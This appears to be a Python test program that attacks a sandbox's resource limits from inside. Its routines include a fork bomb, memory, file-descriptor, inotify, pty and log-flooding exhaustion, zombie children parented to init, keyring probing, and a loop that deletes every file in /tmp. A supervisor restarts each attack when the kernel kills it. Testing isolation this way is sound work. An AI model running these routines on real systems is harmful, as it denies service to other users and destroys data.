"""One attack on what a host has little of, from inside a pocket: `attack.py KIND` as a program, or a client's
call of `attack:KIND`.

A program says "begun" first, and begins again when the kernel has ended it. Each keeps what it got and goes on asking;
a refusal is no reason to stop. The standard library alone.
"""

import array
import contextlib
import ctypes
import itertools
import os
import pty
import resource
import signal
import socket
import sys
import threading
import time

LIBC = ctypes.CDLL(None)
SYS_CLONE, SYS_ADD_KEY, SYS_KEYCTL = 56, 248, 250  # x86-64
CLONE_PARENT = 0x8000
MOST = 120  # megabytes of files and of memory files at once: more would end the whole pocket, and the attack with it


def processor():
    for _ in range(8):
        threading.Thread(target=lambda: [None for _ in iter(int, 1)], daemon=True).start()
    time.sleep(1000)


def processes():
    """A fork bomb that computes."""
    while True:
        with contextlib.suppress(OSError):
            if os.fork() == 0:
                while True:
                    pass


def children():
    """Children of init's, not of its own, that end at once: init has to reap them."""
    while True:
        if LIBC.syscall(SYS_CLONE, CLONE_PARENT | signal.SIGCHLD, 0, 0, 0, 0) == 0:
            os._exit(0)


def memory():
    """Until the kernel ends it, and again."""
    held = []
    while True:
        held.append(bytearray(os.urandom(4096) * 1024))


def files():
    """Large files of /tmp, and small ones, made and removed."""
    for n in itertools.count():
        with contextlib.suppress(OSError), open(f"/tmp/{n % MOST}", "wb") as file:
            file.write(b"x" * (1 << 20))
        for m in range(100):
            with contextlib.suppress(OSError):
                os.close(os.open(f"/tmp/small-{n % MOST}-{m}", os.O_CREAT | os.O_WRONLY))
        if n % MOST == MOST - 1:
            for name in os.listdir("/tmp"):
                with contextlib.suppress(OSError):
                    os.unlink(f"/tmp/{name}")


def memfds():
    held = []
    while True:
        with contextlib.suppress(OSError):
            for n in itertools.count():
                held.append(os.memfd_create("x"))
                if n < MOST:
                    os.write(held[-1], b"x" * (1 << 20))
        for fd in held:
            os.close(fd)
        held.clear()


def descriptors():
    """In flight: over sockets that nobody reads, each sent on in another, with memory files beside it."""
    kept = []
    while True:
        with contextlib.suppress(OSError):
            a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
            kept.append(a)
            fds = [os.memfd_create("x") for _ in range(50)]
            pairs = [socket.socketpair() for _ in range(50)]
            own = [s.fileno() for pair in pairs for s in pair]
            with contextlib.suppress(OSError):
                a.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [*fds, *own, b.fileno()]))])
            for fd in fds:
                os.close(fd)


def watches():
    fds = [fd for fd in (LIBC.inotify_init1(0) for _ in range(10_000)) if fd >= 0]
    while True:
        for fd in fds:
            for name in ("/tmp", "/dev", "/proc", "/usr/bin", "/usr/lib"):
                LIBC.inotify_add_watch(fd, name.encode(), 0xFFF)


def terminals():
    held = []
    while True:
        with contextlib.suppress(OSError):
            held.append(pty.openpty())


def keyrings():
    """Which no pocket may have."""
    while True:
        for n in range(1000):
            if LIBC.syscall(SYS_ADD_KEY, b"user", b"%d" % n, b"x" * 1000, 1000, -3) >= 0:
                raise SystemExit("a key was taken")
            LIBC.syscall(SYS_KEYCTL, 1, 0)  # KEYCTL_JOIN_SESSION_KEYRING


def output():
    """Short lines for the service's log, where a client's worker writes, as fast as they are taken."""
    while True:
        os.write(1, b"x\n" * 2048)


def replies():
    """A large one, for a client that does not read it."""
    return "x" * (256 << 10)  # hundreds of them are in flight: no more than the attacker may have


def main(kind):
    print("begun", flush=True)
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    if kind == "children":  # of this process's siblings
        children()
    while True:
        child = os.fork()
        if child == 0:
            globals()[kind]()
        os.waitpid(child, 0)


if __name__ == "__main__":
    main(sys.argv[1])
